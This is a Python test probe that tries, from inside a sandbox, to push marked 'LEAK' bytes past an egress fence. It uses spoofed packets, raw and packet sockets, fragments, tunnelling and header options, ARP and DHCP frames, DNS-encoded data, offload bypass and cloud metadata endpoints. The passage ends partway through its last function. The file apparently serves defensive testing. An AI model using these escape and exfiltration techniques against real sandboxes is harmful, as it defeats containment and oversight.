"""What tests run inside a sandbox: python3 -I probe.py SUBCOMMAND ARGUMENT...

Speaks of the same addresses as tests/support/mod.rs. What an attack sends holds the word LEAK, so that no byte of it can pass
for something else; `udp` and `tcp` send what they are told.
"""
import errno
import os
import socket
import struct
import subprocess
import sys
import time

ALLOWED4, OTHER4 = "203.0.113.9", "203.0.113.10"
ALLOWED6, OTHER6 = "2001:db8::9", "2001:db8::a"
HOST4, HOST6 = "198.51.100.1", "2001:db8:1::1"
TCP_PORT, UDP_PORT = 5432, 5353
PATIENCE = float(os.environ.get("ATTEMPT_SECONDS", 3))
LEAK = b"LEAK of bytes that had to stay inside"


def say(*words):
    print(*words, flush=True)


def family_of(address):
    return socket.AF_INET6 if ":" in address else socket.AF_INET


# What is allowed.


def udp(address, port, text):
    """Sends one datagram and prints what comes back."""
    with socket.socket(family_of(address), socket.SOCK_DGRAM) as s:
        s.settimeout(5)
        s.connect((address, int(port)))
        s.send(text.encode())
        say(s.recv(65536).decode())


def tcp(address, port, text):
    """Sends one line over TCP and prints what comes back."""
    with socket.create_connection((address, int(port)), timeout=5) as s:
        s.sendall(text.encode())
        say(s.recv(65536).decode())


def bulk(address, port, size):
    """Sends `size` bytes over TCP, takes as many back, and compares them."""
    import threading

    data = os.urandom(int(size))
    got = bytearray()
    with socket.create_connection((address, int(port)), timeout=10) as s:
        sender = threading.Thread(target=s.sendall, args=(data,))
        sender.start()
        while len(got) < len(data):
            part = s.recv(1 << 16)
            if not part:
                break
            got += part
        sender.join()
    say("whole" if bytes(got) == data else "broken: %d of %d bytes" % (len(got), len(data)))


def fetch(url):
    """Fetches a page as the environment says, and prints it, or the status that it was refused with."""
    import urllib.error
    import urllib.request

    try:
        with urllib.request.urlopen(url, timeout=5) as answer:
            sys.stdout.write(answer.read().decode())
            sys.stdout.flush()
    except urllib.error.HTTPError as error:
        say(error.code)
    except OSError as error:
        say(error)


def alone():
    """Talks to itself over loopback."""
    reached = []
    for address in ("127.0.0.1", "::1"):
        with socket.create_server((address, 0), family=family_of(address)) as server:
            with socket.create_connection(server.getsockname()[:2], timeout=5) as client:
                server.accept()[0].sendall(address.encode())
                reached.append(client.recv(100).decode())
    say(*reached)


def keep(address, port, count, pause):
    """Keeps one TCP connection and says something over it again and again."""
    with socket.create_connection((address, int(port)), timeout=5) as s:
        for number in range(int(count)):
            s.sendall(b"still %d" % number)
            if s.recv(100) != b"still %d" % number:
                return say("broken")
            time.sleep(float(pause))
    say("kept")


def median(address, port, count):
    """Says in microseconds how long a connect takes until it is refused, and how."""
    times, how = [], set()
    for _ in range(int(count)):
        with socket.socket(family_of(address), socket.SOCK_STREAM) as s:
            s.settimeout(10)
            start = time.perf_counter()
            error = s.connect_ex((address, int(port)))
            times.append(time.perf_counter() - start)
            how.add(errno.errorcode.get(error, str(error)))
    say(int(sorted(times)[len(times) // 2] * 1e6), *sorted(how))


# What sockets can be made to try without any privilege.


def own(family):
    """The sandbox's own address, without sending anything."""
    with socket.socket(family, socket.SOCK_DGRAM) as s:
        s.connect((ALLOWED4 if family == socket.AF_INET else ALLOWED6, 9))
        return s.getsockname()[0]


def gateway(family):
    address = own(family)
    assert address.endswith("2") or family == socket.AF_INET, address
    packed = bytearray(socket.inet_pton(family, address))
    packed[-1] -= 1
    return socket.inet_ntop(family, bytes(packed))


def attempt(name, kind, address, port, protocol=0, prepare=None, data=LEAK, flags=0):
    """One attempt, and in one word what became of it: an errno's name, `sent`, or `connected`."""
    start = time.perf_counter()
    try:
        with socket.socket(family_of(address.split("%")[0]), kind, protocol) as s:
            s.settimeout(PATIENCE)
            if prepare:
                prepare(s)
            bare, _, scope = address.partition("%")
            to = (bare, port, 0, socket.if_nametoindex(scope)) if scope else (bare, port)
            if kind == socket.SOCK_STREAM:
                s.connect(to)
                s.sendall(data)
                word = "connected"
            else:
                s.sendto(data, flags, to)
                # Refused datagrams are told of at the latest with the next one.
                s.settimeout(0.002)
                try:
                    s.sendto(data, flags, to)
                    s.recv(100)
                    word = "answered"
                except socket.timeout:
                    word = "sent"
    except socket.timeout:
        word = "timeout"
    except OSError as error:
        word = errno.errorcode.get(error.errno, str(error))
    say("%s %s %d" % (name, word, (time.perf_counter() - start) * 1e6))


def opened(options):
    def prepare(s):
        for option in options:
            if callable(option):
                option(s)
            else:
                s.setsockopt(*option)
    return prepare


def sockets(*groups):
    stream, datagram, raw = socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW
    for group in groups:
        if group == "icmp":
            echo4, echo6 = b"\x08\0\0\0\0\0\0\0" + LEAK, b"\x80\0\0\0\0\0\0\0" + LEAK
            for address in (ALLOWED4, OTHER4, gateway(socket.AF_INET), HOST4):
                attempt("ping-" + address, datagram, address, 0, socket.IPPROTO_ICMP, data=echo4)
                attempt("raw-icmp-" + address, raw, address, 0, socket.IPPROTO_ICMP, data=echo4)
            for address in (ALLOWED6, OTHER6, gateway(socket.AF_INET6), HOST6):
                attempt("ping-" + address, datagram, address, 0, socket.IPPROTO_ICMPV6, data=echo6)
                attempt("raw-icmp-" + address, raw, address, 0, socket.IPPROTO_ICMPV6, data=echo6)
        elif group == "protocols":
            for address in (ALLOWED4, OTHER4, ALLOWED6, OTHER6):
                for name, kind, number in (
                    ("sctp", stream, 132), ("sctp-many", socket.SOCK_SEQPACKET, 132), ("dccp", 6, 33),
                    ("udp-lite", datagram, 136), ("mptcp", stream, 262),
                ):
                    attempt("%s-%s" % (name, address), kind, address, UDP_PORT if number == 136 else 9, number)
                for name, number in (
                    ("gre", 47), ("esp", 50), ("ah", 51), ("ipip", 4), ("6in4", 41), ("udp", 17), ("tcp", 6),
                    ("sctp", 132), ("dccp", 33), ("udp-lite", 136), ("any", 255), ("experiment", 253),
                ):
                    attempt("raw-%s-%s" % (name, address), raw, address, 0, number)
        elif group == "ports":
            for address in (ALLOWED4, ALLOWED6):
                for port in (1, 22, 80, 443, 5353, 5431, 5433, 65535):
                    attempt("tcp-%s-%d" % (address, port), stream, address, port)
                for port in (1, 53, 443, 5352, 5354, 5432, 65535):
                    attempt("udp-%s-%d" % (address, port), datagram, address, port)
            for address in (OTHER4, OTHER6):
                attempt("tcp-" + address, stream, address, TCP_PORT)
                attempt("udp-" + address, datagram, address, UDP_PORT)
                attempt("fastopen-" + address, datagram, address, TCP_PORT)
                try:
                    with socket.socket(family_of(address), stream) as s:
                        s.settimeout(1)
                        s.sendto(LEAK, 0x20000000, (address, TCP_PORT))  # MSG_FASTOPEN
                        say("fast-open-%s sent 0" % address)
                except OSError as error:
                    say("fast-open-%s %s 0" % (address, errno.errorcode.get(error.errno, error)))
        elif group == "ipv6":
            for address in (
                "fe80::1%eth0", "fe80::52:aff:fec8:1%eth0", "ff02::1%eth0", "fd00::1", "fc00::9", "::ffff:" + OTHER4,
                "2002:cb00:710a::1", "64:ff9b::" + OTHER4, "64:ff9b:1::" + OTHER4, "::" + OTHER4, "2001::1", "fec0::1",
            ):
                attempt("tcp-" + address, stream, address, 80)
                attempt("udp-" + address, datagram, address, UDP_PORT)
        elif group == "many":
            broadcast = opened([(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)])
            everyone = (own(socket.AF_INET).rpartition(".")[0] + ".255", "255.255.255.255", "10.255.255.255",
                        "198.51.100.255", "203.0.113.255", "224.0.0.1", "224.0.0.251", "239.255.255.250", "232.1.2.3")
            for address in everyone:
                attempt("udp-" + address, datagram, address, UDP_PORT, prepare=broadcast)
            loop = opened([(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_HOPS, 9)])
            for address in ("ff02::1%eth0", "ff02::fb%eth0", "ff05::2%eth0", "ff08::1%eth0", "ff0e::1%eth0", "ff01::1%eth0"):
                attempt("udp-" + address, datagram, address, UDP_PORT, prepare=loop)
            for group_address in ("239.1.2.3", "224.0.0.9"):
                # The kernel tells routers of a membership, by IGMP.
                with socket.socket(socket.AF_INET, datagram) as s:
                    wish = socket.inet_aton(group_address) + socket.inet_aton(own(socket.AF_INET))
                    s.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, wish)
                    time.sleep(0.02)
            with socket.socket(socket.AF_INET6, datagram) as s:
                wish = socket.inet_pton(socket.AF_INET6, "ff0e::1:2") + struct.pack("@i", socket.if_nametoindex("eth0"))
                s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_JOIN_GROUP, wish)
                time.sleep(0.02)
        elif group == "dhcp":
            broadcast = (socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
            discover = b"\x01\x01\x06\0" + b"\x12\x34\x56\x78" + bytes(228) + b"\x63\x82\x53\x63\x35\x01\x01\xff" + LEAK
            for address in ("255.255.255.255", gateway(socket.AF_INET), HOST4, OTHER4):
                attempt("dhcp-" + address, datagram, address, 67, data=discover,
                        prepare=opened([broadcast, lambda s: s.bind(("", 68))]))
            for address in ("ff02::1:2%eth0", "ff05::1:3%eth0", HOST6, OTHER6):
                attempt("dhcp6-" + address, datagram, address, 547, data=b"\x01\x11\x22\x33" + LEAK,
                        prepare=opened([lambda s: s.bind(("::", 546))]))
        elif group == "spoofed":
            for address, source in ((ALLOWED4, HOST4), (ALLOWED4, OTHER4), (ALLOWED4, "198.51.100.77"), (ALLOWED4, "10.200.0.6"),
                                    (ALLOWED6, HOST6), (ALLOWED6, OTHER6), (ALLOWED6, "2001:db8:1::77")):
                v6 = ":" in address
                free = (socket.IPPROTO_IPV6, 78, 1) if v6 else (socket.IPPROTO_IP, 15, 1)  # IPV6_FREEBIND, IP_FREEBIND
                bind = opened([free, lambda s, source=source: s.bind((source, 0))])
                attempt("udp-from-" + source, datagram, address, UDP_PORT, prepare=bind)
                attempt("tcp-from-" + source, stream, address, TCP_PORT, prepare=bind)
        elif group == "fragments":
            for address in (ALLOWED4, ALLOWED6, OTHER4, OTHER6):
                for size in (1600, 9000, 60000):
                    attempt("udp-%s-%d" % (address, size), datagram, address, UDP_PORT, data=(LEAK * 2000)[:size])
        elif group == "options":
            options = {"nop": b"\1\1\1\0", "record-route": b"\7\x0b\4" + bytes(8) + b"\0", "timestamp": b"\x44\x0c\5\0" + bytes(8),
                       "loose-route": b"\x83\x07\4" + socket.inet_aton(ALLOWED4) + b"\0", "router-alert": b"\x94\4\0\0"}
            for name, option in options.items():
                prepare = opened([(socket.IPPROTO_IP, socket.IP_OPTIONS, option)])
                for address in (ALLOWED4, OTHER4):
                    attempt("udp-%s-%s" % (name, address), datagram, address, UDP_PORT, prepare=prepare)
                    attempt("tcp-%s-%s" % (name, address), stream, address, TCP_PORT, prepare=opened([
                        (socket.IPPROTO_IP, socket.IP_OPTIONS, option), lambda s: s.settimeout(0.1)]))
            headers = {"hop-by-hop": (54, b"\0\0\1\4\0\0\0\0"), "destination": (59, b"\0\0\1\4\0\0\0\0"),
                       "routing": (57, b"\0\2\2\1\0\0\0\0" + socket.inet_pton(socket.AF_INET6, OTHER6))}
            for name, (number, header) in headers.items():
                for address in (ALLOWED6, OTHER6):
                    attempt("udp-%s-%s" % (name, address), datagram, address, UDP_PORT,
                            prepare=opened([(socket.IPPROTO_IPV6, number, header)]))
        elif group == "loopback":
            # Out by the interface that is accepted whatever the address, in the hope that it comes back to be forwarded.
            bound = opened([(socket.SOL_SOCKET, 25, b"lo\0")])  # SO_BINDTODEVICE
            for address in (ALLOWED4, OTHER4, HOST4, gateway(socket.AF_INET), ALLOWED6, OTHER6, HOST6, gateway(socket.AF_INET6)):
                attempt("udp-lo-" + address, datagram, address, 9, prepare=bound)
                attempt("udp-lo-%s-allowed" % address, datagram, address, UDP_PORT, prepare=bound)
        elif group == "metadata":
            for address in ("169.254.169.254", "169.254.170.2", "100.100.100.200", "fd00:ec2::254", "fd20:ce::254"):
                attempt("tcp-" + address, stream, address, 80)
                attempt("udp-" + address, datagram, address, 123)
        elif group == "dns":
            query = b"\x12\x34\1\0\0\1\0\0\0\0\0\0\x04LEAK\x07example\0\0\1\0\1"
            for address in (OTHER4, OTHER6, ALLOWED4, ALLOWED6, HOST4, HOST6, gateway(socket.AF_INET)):
                attempt("udp-%s-53" % address, datagram, address, 53, data=query)
                attempt("tcp-%s-53" % address, stream, address, 53, data=struct.pack("!H", len(query)) + query)
                attempt("tls-%s-853" % address, stream, address, 853)
                attempt("quic-%s-853" % address, datagram, address, 853)
                attempt("http3-%s-443" % address, datagram, address, 443)
        elif ":" in group or "." in group:
            # The services of whoever has that address.
            for port in (22, 7777):
                attempt("tcp-%s-%d" % (group, port), stream, group, port)
                attempt("udp-%s-%d" % (group, port), datagram, group, port)
        else:
            raise SystemExit("no group " + group)


# Packets and frames of our own making.


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def pseudo(source, target, protocol, length):
    family = family_of(source)
    ends = socket.inet_pton(family, source) + socket.inet_pton(family, target)
    return ends + (struct.pack("!BBH", 0, protocol, length) if family == socket.AF_INET else struct.pack("!IHBB", length, 0, 0, protocol))


def with_checksum(segment, at, source, target, protocol):
    total = checksum(pseudo(source, target, protocol, len(segment)) + segment) or 0xFFFF
    return segment[:at] + struct.pack("!H", total) + segment[at + 2:]


def udp_segment(source, target, port, data=LEAK, protocol=17):
    return with_checksum(struct.pack("!HHHH", 40001, port, 8 + len(data), 0) + data, 6, source, target, protocol)


def tcp_segment(source, target, port, flags=2, data=LEAK):
    return with_checksum(struct.pack("!HHIIBBHHH", 40002, port, 1, 1, 0x50, flags, 8192, 0, 0) + data, 16, source, target, 6)


def icmp6(source, target, kind, code=0, body=bytes(4)):
    return with_checksum(struct.pack("!BBH", kind, code, 0) + body, 2, source, target, 58)


def ipv4(source, target, protocol, payload, options=b"", fragment=0, ttl=64, version=4, length=None):
    words = 5 + len(options) // 4
    head = struct.pack("!BBHHHBBH", version << 4 | words, 0, length or words * 4 + len(payload), 0x1234, fragment, ttl, protocol, 0)
    head += socket.inet_aton(source) + socket.inet_aton(target) + options
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + payload


def ipv6(source, target, protocol, payload, hops=64, length=None):
    head = struct.pack("!IHBB", 6 << 28, len(payload) if length is None else length, protocol, hops)
    return head + socket.inet_pton(socket.AF_INET6, source) + socket.inet_pton(socket.AF_INET6, target) + payload


def packets():
    """Every packet that must not get out, with a name each: none is one the fence lets out."""
    me, me6 = own(socket.AF_INET), own(socket.AF_INET6)
    gate, gate6 = gateway(socket.AF_INET), gateway(socket.AF_INET6)
    echo = struct.pack("!BBHHH", 8, 0, 0, 1, 1) + LEAK
    echo = echo[:2] + struct.pack("!H", checksum(echo)) + echo[4:]
    found = []
    add = lambda name, packet: found.append((name, packet))
    bare = lambda to, port=UDP_PORT, source=me: udp_segment(source, to, port)

    for to in (ALLOWED4, OTHER4, gate, HOST4, "127.0.0.1", "169.254.169.254", "224.0.0.1", "255.255.255.255", me):
        add("echo " + to, ipv4(me, to, 1, echo))
        for kind, code in ((0, 0), (3, 4), (3, 1), (5, 1), (11, 0), (13, 0)):
            quoted = ipv4(to, me, 17, udp_segment(to, me, 40001))
            body = struct.pack("!BBHI", kind, code, 0, 0) + quoted
            add("icmp %d %s" % (kind, to), ipv4(me, to, 1, body[:2] + struct.pack("!H", checksum(body)) + body[4:]))
        for number in (132, 33, 136, 47, 50, 51, 4, 41, 0, 2, 46, 89, 103, 108, 112, 253, 255):
            inner = {4: ipv4(me, OTHER4, 17, bare(OTHER4)), 41: ipv6(me6, OTHER6, 17, udp_segment(me6, OTHER6, UDP_PORT)),
                     47: b"\0\0\x08\0" + ipv4(me, OTHER4, 17, bare(OTHER4)), 136: udp_segment(me, to, UDP_PORT, protocol=136)}
            add("protocol %d %s" % (number, to), ipv4(me, to, number, inner.get(number, struct.pack("!HH", 40001, UDP_PORT) + LEAK)))
        add("udp elsewhere " + to, ipv4(me, to, 17, bare(to, 5354)))
        add("tcp elsewhere " + to, ipv4(me, to, 6, tcp_segment(me, to, 5433)))
        add("dhcp " + to, ipv4(me, to, 17, bare(to, 67)))
    add("udp other", ipv4(me, OTHER4, 17, bare(OTHER4)))
    for flags in (0, 1, 2, 4, 16, 18, 24, 255):
        add("tcp other %d" % flags, ipv4(me, OTHER4, 6, tcp_segment(me, OTHER4, TCP_PORT, flags)))
    # From somebody else, to where the sandbox may send; with a hop limit at which a router answers the source, too.
    for source in (HOST4, OTHER4, ALLOWED4, gate, "198.51.100.77", "198.51.100.254", "127.0.0.1", "10.200.0.6", "255.255.255.255"):
        for ttl in (64, 1, 0):
            add("from %s ttl %d" % (source, ttl), ipv4(source, ALLOWED4, 17, udp_segment(source, ALLOWED4, UDP_PORT), ttl=ttl))
        add("tcp from " + source, ipv4(source, ALLOWED4, 6, tcp_segment(source, ALLOWED4, TCP_PORT)))
        add("to gateway from " + source, ipv4(source, gate, 17, udp_segment(source, gate, 9)))
        add("to host from " + source, ipv4(source, HOST4, 6, tcp_segment(source, HOST4, 22)))
        add("martian from " + source, ipv4(source, "0.0.0.0", 17, udp_segment(source, "0.0.0.0", 9)))
        add("options from " + source, ipv4(source, ALLOWED4, 17, udp_segment(source, ALLOWED4, UDP_PORT), options=b"\x44\x05\xff\0"))
        add("strange options from " + source, ipv4(source, gate, 17, udp_segment(source, gate, 9), options=b"\x83\xff\xff\0"))
    for to in (ALLOWED4, OTHER4):
        whole = udp_segment(me, to, UDP_PORT, LEAK * 3)
        add("first fragment " + to, ipv4(me, to, 17, whole[:24], fragment=0x2000))
        add("later fragment " + to, ipv4(me, to, 17, whole[24:], fragment=3))
        add("tiny fragment " + to, ipv4(me, to, 17, whole[:8], fragment=0x2000))
        add("last fragment " + to, ipv4(me, to, 17, whole[8:], fragment=1))
        add("reserved bit and more " + to, ipv4(me, to, 17, whole, fragment=0xA000))
        for name, option in (("nop", b"\1\1\1\0"), ("loose route", b"\x83\x07\4" + socket.inet_aton(OTHER4) + b"\0"),
                             ("record route", b"\7\x07\4" + bytes(5)), ("strange", b"\x9e\x04\0\0"), ("alert", b"\x94\4\0\0")):
            add("option %s %s" % (name, to), ipv4(me, to, 17, bare(to), options=option))
        add("short header " + to, b"\x44" + ipv4(me, to, 17, bare(to))[1:])
        add("no ports " + to, ipv4(me, to, 17, b"\1\2"))
    # To where it may send, but not a whole and ordinary packet of a flow: nothing may go out that was not made the host's own.
    broken = bytearray(bare(ALLOWED4))
    broken[6] ^= 0x55
    add("wrong checksum", ipv4(me, ALLOWED4, 17, bytes(broken)))
    for flags in (4, 5, 0, 255, 41):
        add("tcp flags %d" % flags, ipv4(me, ALLOWED4, 6, tcp_segment(me, ALLOWED4, TCP_PORT, flags)))
    broken = bytearray(tcp_segment(me, ALLOWED4, TCP_PORT))
    broken[16] ^= 0x55
    add("tcp wrong checksum", ipv4(me, ALLOWED4, 6, bytes(broken)))

    targets = (ALLOWED6, OTHER6, gate6, HOST6, "::1", "fe80::1", "fd00::1", "::ffff:" + OTHER4, "2002:cb00:710a::1",
               "64:ff9b::" + OTHER4, "ff02::1", "ff02::2", "ff05::2", "ff0e::1", "fd00:ec2::254", me6)
    for to in targets:
        add("echo " + to, ipv6(me6, to, 58, icmp6(me6, to, 128, body=bytes(4) + LEAK)))
        for kind in (1, 2, 3, 4, 129, 130, 131, 133, 134, 137, 138, 139, 143, 144, 151, 200):
            quoted = bytes(4) + ipv6(to, me6, 17, udp_segment(to, me6, 40001))
            add("icmp6 %d %s" % (kind, to), ipv6(me6, to, 58, icmp6(me6, to, kind, body=quoted), hops=255))
        for number in (132, 33, 136, 47, 50, 51, 4, 41, 59, 89, 103, 253, 255):
            inner = {4: ipv4(me, OTHER4, 17, bare(OTHER4)), 41: ipv6(me6, OTHER6, 17, udp_segment(me6, OTHER6, UDP_PORT))}
            add("protocol %d %s" % (number, to), ipv6(me6, to, number, inner.get(number, struct.pack("!HH", 40001, UDP_PORT) + LEAK)))
        add("udp elsewhere " + to, ipv6(me6, to, 17, udp_segment(me6, to, 5354)))
        add("tcp elsewhere " + to, ipv6(me6, to, 6, tcp_segment(me6, to, 5433)))
        # Neighbour discovery as the fence lets it pass to the host: addressed past it, from afar, too large.
        ask = bytes(4) + socket.inet_pton(socket.AF_INET6, to) + b"\1\1" + bytes(6) + b"\x0e\6" + (LEAK + bytes(46))[:46]
        for kind in (135, 136):
            for hops in (255, 254, 64, 1):
                if to not in (gate6, HOST6, "ff02::1", "ff02::2", me6) or hops != 255:
                    add("discovery %d hops %d %s" % (kind, hops, to), ipv6(me6, to, 58, icmp6(me6, to, kind, body=ask), hops=hops))
        plain = udp_segment(me6, to, UDP_PORT)
        for number in (0, 43, 60, 135, 139, 140):
            add("header %d %s" % (number, to), ipv6(me6, to, number, bytes([17, 0, 1, 4, 0, 0, 0, 0]) + plain))
        add("atomic fragment " + to, ipv6(me6, to, 44, bytes([17, 0, 0, 0, 0, 0, 0, 7]) + plain))
        padded = plain + bytes(-len(plain) % 8)
        add("first fragment " + to, ipv6(me6, to, 44, bytes([17, 0, 0, 1, 0, 0, 0, 8]) + plain[:24]))
        add("last fragment " + to, ipv6(me6, to, 44, bytes([17, 0, 0, 24, 0, 0, 0, 8]) + plain[24:]))
        add("hop by hop and fragment " + to, ipv6(me6, to, 0, bytes([44, 0, 1, 4, 0, 0, 0, 0, 17, 0, 0, 0, 0, 0, 0, 9]) + padded))
        add("no ports " + to, ipv6(me6, to, 17, b"\1\2"))
    add("udp other6", ipv6(me6, OTHER6, 17, udp_segment(me6, OTHER6, UDP_PORT)))
    add("tcp other6", ipv6(me6, OTHER6, 6, tcp_segment(me6, OTHER6, TCP_PORT)))
    add("wrong checksum6", ipv6(me6, ALLOWED6, 17, udp_segment(me6, ALLOWED6, UDP_PORT)[:-1] + b"?"))
    for source in (HOST6, OTHER6, ALLOWED6, gate6, "2001:db8:1::77", "fe80::9", "::1", "fd52:4e46:4e43::6"):
        for hops in (64, 1, 0):
            add("from %s hops %d" % (source, hops), ipv6(source, ALLOWED6, 17, udp_segment(source, ALLOWED6, UDP_PORT), hops=hops))
        add("to host from " + source, ipv6(source, HOST6, 6, tcp_segment(source, HOST6, 22)))
        # A receiver answers the source of an option that it does not know, before any rule on packets is asked.
        for kind in (0x3E, 0x7E, 0xBE, 0xFE, 0xC2, 0x05, 0x07, 0x31):
            for to in (gate6, ALLOWED6, "ff02::1"):
                option = bytes([17, 0, kind, 4, 0, 0, 0, 0])
                add("option %x from %s to %s" % (kind, source, to), ipv6(source, to, 0, option + udp_segment(source, to, 9)))
                option = bytes([17, 0, 1, 0, kind, 2, 0, 0])
                add("later option %x from %s to %s" % (kind, source, to), ipv6(source, to, 0, option + udp_segment(source, to, 9)))
        add("jumbo from " + source, ipv6(source, gate6, 0, bytes([17, 0, 0xC2, 4, 0, 0, 0, 9]) + LEAK, length=0))
        add("fragment from " + source, ipv6(source, gate6, 44, bytes([17, 0, 0, 1, 0, 0, 0, 10]) + LEAK[:23]))
        add("segment routing from " + source, ipv6(source, gate6, 43, bytes([17, 2, 4, 9, 9, 0, 0, 0])
            + socket.inet_pton(socket.AF_INET6, OTHER6) + udp_segment(source, gate6, 9)))
    return found


def frames():
    """The same as Ethernet frames, and frames that hold something else."""
    me = own(socket.AF_INET)
    mac = b"\2\x52" + socket.inet_aton(me)
    gate = b"\2\x52" + socket.inet_aton(gateway(socket.AF_INET))
    everyone = b"\xff" * 6
    found = []
    for name, packet in packets():
        kind = b"\x08\0" if packet[0] >> 4 == 4 else b"\x86\xdd"
        found.append((name, gate + mac + kind + packet))
    plain = ipv4(me, OTHER4, 17, udp_segment(me, OTHER4, UDP_PORT))
    allowed = ipv4(me, ALLOWED4, 17, udp_segment(me, ALLOWED4, 5354))
    for packet in (plain, allowed):
        found += [
            ("broadcast", everyone + mac + b"\x08\0" + packet),
            ("multicast", b"\1\0\x5e\0\0\1" + mac + b"\x08\0" + packet),
            ("the router's address", b"\2\0\x5e\0\0\xfe" + mac + b"\x08\0" + packet),
            ("from the router's", gate + b"\2\0\x5e\0\0\xfe" + b"\x08\0" + packet),
            ("from the host's uplink", gate + b"\2\0\x5e\0\0\1" + b"\x08\0" + packet),
            ("vlan 0", gate + mac + b"\x81\0\0\0\x08\0" + packet),
            ("vlan 5", gate + mac + b"\x81\0\0\5\x08\0" + packet),
            ("vlan in vlan", gate + mac + b"\x88\xa8\0\0\x81\0\0\0\x08\0" + packet),
            ("snap", gate + mac + struct.pack("!H", 8 + len(packet)) + b"\xaa\xaa\3\0\0\0\x08\0" + packet),
            ("pppoe", gate + mac + b"\x88\x64\x11\0\0\1" + struct.pack("!H", 2 + len(packet)) + b"\0\x21" + packet),
            ("mpls", gate + mac + b"\x88\x47\0\1\1\x40" + packet),
            ("ipv4 as ipv6", gate + mac + b"\x86\xdd" + packet),
            ("experiment", gate + mac + b"\x88\xb5" + LEAK),
            ("discovery of links", b"\1\x80\xc2\0\0\x0e" + mac + b"\x88\xcc" + LEAK),
            ("spanning tree", b"\1\x80\xc2\0\0\0" + mac + struct.pack("!H", 3 + len(LEAK)) + b"\x42\x42\3" + LEAK),
            ("wake on lan", everyone + mac + b"\x08\x42" + LEAK),
        ]
    for to in (ALLOWED4, OTHER4):
        # A raw socket would put both right.
        found += [("too long", gate + mac + b"\x08\0" + ipv4(me, to, 17, udp_segment(me, to, UDP_PORT), length=1000)),
                  ("from nobody", gate + mac + b"\x08\0" + ipv4("0.0.0.0", to, 17, udp_segment("0.0.0.0", to, UDP_PORT)))]
    for operation in (1, 2, 8):
        for claimed in (HOST4, "198.51.100.254", OTHER4, me, gateway(socket.AF_INET)):
            for target in (HOST4, "198.51.100.254", OTHER4, claimed, gateway(socket.AF_INET)):
                body = struct.pack("!HHBBH", 1, 0x0800, 6, 4, operation) + mac + socket.inet_aton(claimed)
                found.append(("arp", everyone + mac + b"\x08\x06" + body + everyone + socket.inet_aton(target) + LEAK))
    return found


def send_all(how):
    """Sends everything that must not get out; says how much of it left this program, and what refused the rest."""
    sent, refused = 0, {}

    def count(send, *what):
        nonlocal sent
        try:
            send(*what)
            sent += 1
            return
        except OSError as error:
            name = errno.errorcode.get(error.errno, str(error))
        refused[name] = refused.get(name, 0) + 1

    if how == "raw":
        four = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        four.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        six = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_RAW)
        for s in (four, six):
            s.setsockopt(socket.SOL_SOCKET, 25, b"eth0\0")  # SO_BINDTODEVICE: past every look at the route
        for _, packet in packets():
            if packet[0] >> 4 == 4:
                count(four.sendto, packet, (socket.inet_ntoa(packet[16:20]), 0))
            else:
                scope = socket.if_nametoindex("eth0")
                count(six.sendto, packet, (socket.inet_ntop(socket.AF_INET6, packet[24:40]), 0, 0, scope))
    else:
        s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
        s.bind(("eth0", 0))
        if how == "bypass":
            s.setsockopt(263, 20, 1)  # SOL_PACKET, PACKET_QDISC_BYPASS
        for number, (_, frame) in enumerate(frames()):
            count(s.send, frame)
            if number % 64 == 63:
                time.sleep(0.005)  # A wire's queue is 1,000 frames long.
    say(how, sent, " ".join("%s=%d" % pair for pair in sorted(refused.items())))


def offload():
    """Leaves it to the host to cut large packets up, as to a network card."""
    me, me6 = own(socket.AF_INET), own(socket.AF_INET6)
    macs = b"\2\x52" + socket.inet_aton(gateway(socket.AF_INET)) + b"\2\x52" + socket.inet_aton(me)
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
    s.bind(("eth0", 0))
    s.setsockopt(263, 15, 1)  # SOL_PACKET, PACKET_VNET_HDR
    outcomes = []
    for bypass in (0, 1):
        s.setsockopt(263, 20, bypass)
        for target, leak in ((ALLOWED4, b""), (OTHER4, LEAK), (ALLOWED6, b""), (OTHER6, LEAK)):
            v6 = ":" in target
            source, kind, head = (me6, b"\x86\xdd", 40) if v6 else (me, b"\x08\0", 20)
            for gso, protocol, room in ((3, 17, 8), (5, 17, 8), (1, 6, 20), (4, 6, 20), (0x81, 6, 20)):
                body = (leak or b"whole") * 100 + bytes(3000)
                segment = udp_segment(source, target, UDP_PORT, body) if protocol == 17 else tcp_segment(source, target, TCP_PORT, 2, body)
                packet = (ipv6 if v6 else ipv4)(source, target, protocol, segment)
                for size in (1000, 100, 3000):
                    header = struct.pack("<BBHHHH", 1, gso, 14 + head + room, size, 14 + head, 6 if protocol == 17 else 16)
                    try:
                        s.send(header + macs + kind + packet)
                        outcomes.append("sent")
                    except OSError as error:
                        outcomes.append(errno.errorcode.get(error.errno, str(error)))
    say(" ".join("%s=%d" % (word, outcomes.count(word)) for word in sorted(set(outcomes))))


def storm(*ways):
    for way in ways:
        send_all(way)


def run(*command):
    """Runs a program and says how it ended, with its words in one line."""
    try:
        done = subprocess.run(command, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, timeout=10)
        say(done.returncode, done.stdout.decode(errors="replace").strip().replace("\n", " | "))
    except OSError as error:
        say(errno.errorcode.get(error.errno, str(error)))


def serve(port):
    """Says its address, listens with everything it has, and says how often it was reached when its input ends."""
    import select

    heard = 0
    listeners = []
    for family, any_address in ((socket.AF_INET, "0.0.0.0"), (socket.AF_INET6, "::")):
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
            s = socket.socket(family, kind)
            if family == socket.AF_INET6:
                s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 1)
            s.bind((any_address, int(port)))
            if kind == socket.SOCK_STREAM:
                s.listen()
            listeners.append(s)
    say(own(socket.AF_INET))
    while True:
        ready, _, _ = select.select(listeners + [sys.stdin], [], [])
